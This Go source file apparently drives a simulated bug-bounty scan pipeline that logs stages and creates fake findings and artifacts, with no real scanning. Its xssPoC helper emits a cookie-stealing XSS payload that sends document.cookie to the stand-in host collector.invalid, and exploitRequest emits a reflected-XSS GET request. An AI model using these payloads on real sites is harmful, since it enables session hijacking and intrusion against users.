// Package sim drives the staged scan simulation. One goroutine per scan
// walks a fixed stage table, mutating the scan record, recording runs,
// logs, and artifacts on the tracking activity, and publishing an event
// after every observable change. No real scanning happens anywhere.
package sim

import (
	"fmt"
	"strings"
	"time"

	"github.com/sirupsen/logrus"

	"github.com/bountyops/bountyops/internal/events"
	"github.com/bountyops/bountyops/internal/store"
	"github.com/bountyops/bountyops/pkg/types"
)

// stage is one step of the simulated scan progression.
type stage struct {
	scanStatus  types.ScanStatus
	description string
	progress    int
	job         string
}

// stages is the full progression, in order. The table is data so tests
// can assert against it without re-deriving the sequence.
var stages = []stage{
	{types.ScanScanning, "Asset Discovery", 20, "recon"},
	{types.ScanAnalyzing, "Vulnerability Analysis", 40, "analysis"},
	{types.ScanExploiting, "Exploit Testing", 70, "exploitation"},
	{types.ScanReporting, "Report Generation", 90, "reporting"},
	{types.ScanCompleted, "Scan Complete", 100, "completion"},
}

// Engine runs scan simulations against the shared store.
type Engine struct {
	store *store.Store
	pub   events.Publisher
	log   *logrus.Logger

	// StageDelay is the pause between stages. It is the only suspension
	// point, and the only moment a stop request can be observed. Tests
	// set it to zero.
	StageDelay time.Duration
}

// New creates an engine with the production stage delay.
func New(st *store.Store, pub events.Publisher, log *logrus.Logger) *Engine {
	return &Engine{
		store:      st,
		pub:        pub,
		log:        log,
		StageDelay: 2 * time.Second,
	}
}

// Start launches a simulation in a background goroutine.
func (e *Engine) Start(scanID string) {
	go e.Simulate(scanID)
}

// Simulate runs the full stage progression for one scan, blocking until
// the scan is terminal. Faults never escape: a panic during a stage is
// converted into a failed activity/scan pair.
func (e *Engine) Simulate(scanID string) {
	scan, err := e.store.Scan(scanID)
	if err != nil {
		e.log.WithField("scan", scanID).Warn("simulation requested for unknown scan")
		return
	}

	programName := scan.ProgramID
	if program, err := e.store.Program(scan.ProgramID); err == nil {
		programName = program.Name
	}

	activityID := e.store.CreateActivity("scan", "Vulnerability scan: "+programName, scan.ProgramID, "automated")
	e.store.LinkScanActivity(scanID, activityID)
	e.store.UpdateActivityStatus(activityID, types.ActivityInProgress, "")
	e.store.AppendLog(activityID, types.LogInfo, fmt.Sprintf("Starting vulnerability scan for %s", programName), "")

	e.log.WithFields(logrus.Fields{"scan": scanID, "activity": activityID, "program": scan.ProgramID}).Info("scan simulation started")

	var fault error
	stopped := func() (stopped bool) {
		defer func() {
			if r := recover(); r != nil {
				fault = fmt.Errorf("stage failure: %v", r)
			}
		}()

		for _, st := range stages {
			if current, err := e.store.Scan(scanID); err == nil && current.Status == types.ScanStopped {
				e.store.UpdateActivityStatus(activityID, types.ActivityCancelled, types.ConclusionCancelled)
				e.store.AppendLog(activityID, types.LogWarning, "Scan stopped by user", "")
				return true
			}

			runID := e.store.CreateRun(activityID, st.job, st.description)
			snap, _ := e.store.AdvanceScan(scanID, st.scanStatus, st.progress)

			e.store.AppendLog(activityID, types.LogInfo, st.description+" started", runID)
			e.pub.Publish(events.ScanUpdate, snap)
			time.Sleep(e.StageDelay)

			e.runStage(st, snap, activityID, runID, programName)
			e.store.CompleteRun(activityID, runID, types.ConclusionSuccess)
		}
		return false
	}()

	switch {
	case fault != nil:
		e.store.UpdateActivityStatus(activityID, types.ActivityFailed, types.ConclusionFailure)
		e.store.AppendLog(activityID, types.LogError, fault.Error(), "")
		e.store.FailScan(scanID)
		e.log.WithFields(logrus.Fields{"scan": scanID, "activity": activityID}).WithError(fault).Error("scan simulation failed")
	case stopped:
		e.log.WithFields(logrus.Fields{"scan": scanID, "activity": activityID}).Info("scan simulation stopped")
	default:
		final, _ := e.store.Scan(scanID)
		e.store.UpdateActivityStatus(activityID, types.ActivityCompleted, types.ConclusionSuccess)
		e.store.AppendLog(activityID, types.LogSuccess,
			fmt.Sprintf("Scan completed: %d vulnerabilities found across %d assets", final.VulnerabilitiesFound, final.AssetsFound), "")
		e.log.WithFields(logrus.Fields{"scan": scanID, "activity": activityID}).Info("scan simulation completed")
	}

	// Final snapshots go out on every path: success, stop, or failure.
	if scan, err := e.store.Scan(scanID); err == nil {
		e.pub.Publish(events.ScanUpdate, scan)
	}
	if activity, err := e.store.Activity(activityID); err == nil {
		e.pub.Publish(events.ActivityUpdated, activity)
	}
}

// runStage applies the stage-specific side effects.
func (e *Engine) runStage(st stage, scan types.Scan, activityID, runID, programName string) {
	switch st.job {
	case "recon":
		e.store.AppendLog(activityID, types.LogInfo, "Enumerating subdomains and exposed assets", runID)
		e.store.AddArtifact(activityID, "discovered_subdomains.txt", subdomainList(programName), types.ArtifactText, runID)
		e.store.AppendLog(activityID, types.LogSuccess, fmt.Sprintf("Asset discovery complete: %d assets found", scan.AssetsFound), runID)

	case "analysis":
		e.store.AppendLog(activityID, types.LogInfo, "Running template scan against discovered assets", runID)
		e.store.AppendLog(activityID, types.LogInfo, "Fingerprinting exposed services", runID)
		if scan.VulnerabilitiesFound > 0 {
			e.store.AppendLog(activityID, types.LogWarning, fmt.Sprintf("%d potential vulnerabilities flagged for exploitation", scan.VulnerabilitiesFound), runID)
		}

	case "exploitation":
		if scan.VulnerabilitiesFound > 0 {
			e.store.AppendLog(activityID, types.LogInfo, "Generating proof-of-concept for XSS candidate", runID)

			finding := e.store.AddFinding(types.Finding{
				ProgramID: scan.ProgramID,
				Type:      "XSS",
				Severity:  6.5,
				Status:    types.FindingNeedsHuman,
				PayoutEst: 5000,
				Evidence: []string{
					"Reflected payload executed in search results page",
					"Session cookie accessible to injected script",
				},
				ActivityID: activityID,
			})

			e.store.AddArtifact(activityID, "xss_poc.html", xssPoC(programName), types.ArtifactText, runID)
			e.store.AddArtifact(activityID, "exploit_request.txt", exploitRequest(programName), types.ArtifactHTTPRequest, runID)
			e.store.AppendLog(activityID, types.LogSuccess, fmt.Sprintf("Created finding %s (XSS, severity 6.5)", finding.ID), runID)
			e.pub.Publish(events.NewFinding, finding)
		}

	case "reporting":
		e.store.AppendLog(activityID, types.LogInfo, "Compiling scan report", runID)
		if scan.VulnerabilitiesFound > 0 {
			e.store.AddArtifact(activityID, "vulnerability_report.md", scanReport(programName, scan), types.ArtifactText, runID)
			e.store.AppendLog(activityID, types.LogSuccess, "Vulnerability report generated", runID)
		} else {
			e.store.AppendLog(activityID, types.LogInfo, "No vulnerabilities found", runID)
		}
	}
}

// slugify collapses a program name into a hostname-safe label.
func slugify(name string) string {
	var b strings.Builder
	for _, r := range strings.ToLower(name) {
		if (r >= 'a' && r <= 'z') || (r >= '0' && r <= '9') {
			b.WriteRune(r)
		}
	}
	if b.Len() == 0 {
		return "target"
	}
	return b.String()
}

func subdomainList(programName string) string {
	slug := slugify(programName)
	return fmt.Sprintf("api.%s.com\nadmin.%s.com\nstaging.%s.com\n", slug, slug, slug)
}

func xssPoC(programName string) string {
	return fmt.Sprintf(`<!-- PoC: reflected XSS on %s search endpoint -->
<script>document.location='https://collector.invalid/c?d='+document.cookie</script>
`, slugify(programName))
}

func exploitRequest(programName string) string {
	slug := slugify(programName)
	return fmt.Sprintf(`GET /search?q=%%3Cscript%%3Ealert(1)%%3C%%2Fscript%%3E HTTP/1.1
Host: www.%s.com
User-Agent: bountyops-scanner/1.0
Accept: text/html

`, slug)
}

func scanReport(programName string, scan types.Scan) string {
	return fmt.Sprintf(`# Vulnerability Scan Report

**Program:** %s

## Summary

- Assets discovered: %d
- Vulnerabilities found: %d

## Findings

### XSS (severity 6.5)

Reflected cross-site scripting in the search endpoint. Payload executes
in the victim's session; see attached proof-of-concept and raw request.

## Recommendation

Encode user-controlled output and deploy a restrictive Content-Security-Policy.
`, programName, scan.AssetsFound, scan.VulnerabilitiesFound)
}
